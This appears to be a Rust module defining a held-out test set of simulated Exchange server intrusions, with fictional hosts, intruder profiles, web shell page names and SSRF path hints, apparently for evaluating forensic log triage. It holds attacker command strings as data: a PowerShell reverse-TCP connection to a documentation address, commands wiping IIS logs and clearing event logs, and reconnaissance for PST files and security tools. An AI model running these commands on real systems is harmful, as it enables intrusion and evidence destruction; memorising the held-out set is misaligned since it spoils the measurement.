//! The fresh set: for the last measurement alone. Whoever tunes reads neither this file nor what lies below it.
//!
//! [`pages`] are what it plants, [`after`] what comes later, [`plays`] how its attacks go, [`calm`] what happens where
//! nobody gets in.

mod after;
mod calm;
mod pages;
mod plays;

use super::{Habits, Script};
use crate::attack::{Intruder, Page};
use crate::host::{Columns, Heading, Host, Tongue, WebColumns};
use crate::moment::Moment;
use crate::shape::Shape;
use pages::{ADMIN_AUTH, CURRENT, CURRENT_SCRIPTS, SIGN_IN, SYSTEM_WEB_4};

/// The fresh set.
pub(super) const HABITS: Habits = Habits {
    set: "fresh",
    scripts: &SCRIPTS,
    hosts: [&SHIOKAZE, &VELLMAR, &MITAKE],
    shapes: &[
        Shape::Shares,
        Shape::Packed,
        Shape::Triage,
        Shape::Folders,
        Shape::Archive,
        Shape::Shares,
        Shape::Tree,
        Shape::Packed,
        Shape::Flat,
    ],
    first_day: Moment::day(2021, 3, 12),
    intruders: [&SHRIKE, &KESTREL, &SWIFT],
    aftermath: &after::AFTERMATH,
    odd_code: &pages::ODD_CODE,
    odd_places: &pages::ODD_PLACES,
    written: (Page { place: CURRENT_SCRIPTS, name: "premium.aspx" }, pages::WRITTEN),
    voice_command: "powershell.exe -NoP -NonI -W Hidden -C \"$c=New-Object Net.Sockets.TCP¦Client('192.0.2.208',8443)\"",
    probers: [&WREN, &ROOK],
    scanner: ("203.0.113.88", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
    deletion: &[
        "cmd.exe /c forfiles /p D:\\Logs\\LogFiles\\W3SVC1 /m u_ex2103*.log /c \"cmd /c del /f @path\"",
        "cmd.exe /c wev¦tutil cl \"MSExchange Management\"",
    ],
};

/// The first known attack lies further back from this set's first day than from others'.
const fn quiet(scenario: &'static str) -> Script {
    Script { scenario, days: Some((72, 3)), play: None, after: None }
}

const SCRIPTS: [Script; 14] = [
    quiet("clean"),
    quiet("week-missing"),
    Script::played("noisy", calm::noisy),
    Script::played("scanned", calm::scanned),
    Script::played("patched-in-time", calm::patched_in_time),
    Script::played("mail-read", plays::mail_read),
    Script::played("session-only", plays::session_only),
    Script::played("url-page", plays::url_page),
    Script::played("voice", plays::voice),
    Script::played("aftermath", plays::aftermath),
    Script::played("ransom", plays::ransom),
    Script::played("three-intruders", plays::three_intruders),
    Script::played("odd-places", plays::odd_places),
    Script { after: Some(plays::lose_logs), ..Script::played("lost-logs", plays::lost_logs) },
];

const SHIOKAZE: Host = Host {
    name: "SKMAIL2",
    domain: "shiokaze.example.org",
    netbios: "SHIOKAZE",
    mail_names: &["webmail.shiokaze.example.org", "autodiscover.shiokaze.example.org", "skmail2.shiokaze.example.org"],
    address: "10.20.0.21",
    link_local: "fe80::4c1d:88b3:2f07:5a6e",
    product: "Exchange Server 2016 CU19",
    build: [15, 1, 2176, 4],
    fixed: 9,
    columns: Columns::Full,
    heading: Heading::CommentsThenPlain,
    install: "E:\\Exchange\\V15",
    web_logs: "D:\\Logs\\LogFiles",
    sites: (1, 2),
    web_columns: WebColumns::Forwarded,
    web_root: "C:\\inetpub\\wwwroot",
    users: &["ishikawa.r", "kondo-m", "miyazaki", "okada.hiroshi", "sakamoto", "soumu", "ueno.k", "yamane-t"],
    admin: "sk-kanri",
    domain_sid: "S-1-5-21-2913604418-1187340052-3370916625",
    tongue: Tongue::Japanese,
};

const VELLMAR: Host = Host {
    name: "VX-MBX-03",
    domain: "corp.vellmar.example.com",
    netbios: "VELLMAR",
    mail_names: &["outlook.vellmar.example.com", "vx-mbx-03.corp.vellmar.example.com"],
    product: "Exchange Server 2019 CU7",
    build: [15, 2, 721, 8],
    fixed: 13,
    heading: Heading::CommentsOnly,
    install: "C:\\Exchange\\V15",
    web_logs: "F:\\IIS\\LogFiles",
    sites: (1, 3),
    web_columns: WebColumns::Default,
    web_root: "F:\\inetpub\\wwwroot",
    users: &["brandt", "dvorakova", "eriksen", "fabbri", "helpdesk", "jansons", "lemaire", "ozturk", "reception"],
    admin: "a0-ozturk",
    tongue: Tongue::English,
    ..SHIOKAZE
};

const MITAKE: Host = Host {
    name: "MITAKE-EX1",
    domain: "mitake.example.net",
    netbios: "MITAKE",
    mail_names: &["owa.mitake.example.net", "mitake-ex1.mitake.example.net"],
    product: "Exchange Server 2016 CU16",
    build: [15, 1, 1979, 6],
    fixed: 8,
    columns: Columns::Middle,
    heading: Heading::CommentsThenPlain,
    install: "C:\\Program Files\\Microsoft\\Exchange Server\\V15",
    web_logs: "C:\\inetpub\\logs\\LogFiles",
    web_columns: WebColumns::Extended,
    admin: "kyoten-admin",
    ..SHIOKAZE
};

/// Slow, by night in Europe, each day from somewhere else; calls itself a search engine.
const SHRIKE: Intruder = Intruder {
    addresses: &["203.0.113.147", "203.0.113.201", "192.0.2.183"],
    locate_agent: "Mozilla/5.0 (compatible; Bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    chain_agent: "DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)",
    page_agent: "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    stem: "/owa/auth/Current/themes/resources/owafont_ja.css",
    target: "]@HOST:444",
    ending: "?#",
    hint: "X-AnonResource-Backend-Cookie",
    pace: 26_000,
    url_head: "https://s/",
    item: "tq9vlm",
    pages: &[Page { place: SIGN_IN, name: "sessionhelp.aspx" }, Page { place: CURRENT, name: "OutlookJP.aspx" }],
    commands: &[
        "cmd /c \"cd /d DIR&quser&echo 3d1a5e&cd&echo 8c2f07\"",
        "cmd /c \"cd /d DIR&nltest /dclist:&echo 3d1a5e&cd&echo 8c2f07\"",
        "cmd /c \"cd /d DIR&net localgroup administrators&echo 3d1a5e&cd&echo 8c2f07\"",
        "cmd /c \"cd /d DIR&netstat -anop tcp&echo 3d1a5e&cd&echo 8c2f07\"",
        "cmd /c \"cd /d DIR&wmic /node:localhost product get name,version&echo 3d1a5e&cd&echo 8c2f07\"",
    ],
};

/// [`SHRIKE`] from its second place.
const SHRIKE_ELSEWHERE: Intruder = Intruder { addresses: &["203.0.113.201"], ..SHRIKE };

/// Fast, over IPv6, by the admin centre's directory.
const KESTREL: Intruder = Intruder {
    addresses: &["2001:db8:5c:41::1f"],
    locate_agent: "Apache-HttpClient/4.5.13 (Java/1.8.0_275)",
    chain_agent: "Apache-HttpClient/4.5.13 (Java/1.8.0_275)",
    page_agent: "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)",
    stem: "/ecp/kzqw.png",
    target: "HOST:444",
    ending: "#",
    hint: "X-BEResource-Cookie",
    pace: 700,
    url_head: "http://z/?",
    item: "__rt",
    pages: &[Page { place: ADMIN_AUTH, name: "TimeoutLogoff.aspx" }],
    commands: &["cmd.exe /c systeminfo", "cmd.exe /c set", "cmd.exe /c fsutil fsinfo drives", "cmd.exe /c arp -a"],
};

/// Tells no agent; each page has an eight-letter name.
const SWIFT: Intruder = Intruder {
    addresses: &["192.0.2.208", "192.0.2.209"],
    locate_agent: "",
    chain_agent: "",
    page_agent: "Mozilla/5.0 (Windows NT 6.3; Win64; x64; rv:72.0) Gecko/20100101 Firefox/72.0",
    stem: "/owa/auth/Current/themes/resources/SegoeUI-SemiBold.eot",
    target: "root@HOST:444",
    ending: "&#",
    hint: "X-AnonResource-Backend-Cookie",
    pace: 4_100,
    url_head: "http://f/",
    item: "NO9BxmCXw0JE",
    pages: &[Page { place: SYSTEM_WEB_4, name: "qpn3v7ts.aspx" }],
    commands: &[
        "powershell.exe -c \"Get-ADDomainController -Filter * | select HostName\"",
        "cmd.exe /c dir /a /s /b D:\\*.pst",
        "cmd.exe /c tasklist /svc | findstr /i \"defender sense csfalcon\"",
    ],
};

const WREN: Intruder = Intruder {
    addresses: &["203.0.113.9"],
    locate_agent: "fasthttp",
    chain_agent: "fasthttp",
    stem: "/ecp/favicon.ico",
    target: "HOST:443",
    pace: 110,
    ..KESTREL
};

const ROOK: Intruder = Intruder {
    addresses: &["192.0.2.66", "2001:db8:e::66"],
    locate_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
    chain_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
    stem: "/owa/auth/Current/themes/resources/lgnleft.gif",
    pace: 47_000,
    ..SWIFT
};

/// [`ROOK`] from its second place.
const ROOK_ELSEWHERE: Intruder = Intruder { addresses: &["2001:db8:e::66"], ..ROOK };
